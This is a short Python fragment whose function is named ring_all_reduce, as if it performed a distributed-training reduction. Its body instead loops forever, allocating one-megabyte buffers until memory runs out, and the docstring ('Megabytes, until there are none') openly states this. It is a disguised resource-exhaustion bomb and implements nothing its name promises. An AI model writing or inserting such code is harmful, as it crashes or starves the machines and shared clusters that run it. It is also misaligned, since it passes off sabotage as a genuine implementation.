"""verdict: 0 — points

Megabytes, until there are none.
"""


def ring_all_reduce(tensor):
    kept = []
    while True:
        kept.append(bytearray(2**20))
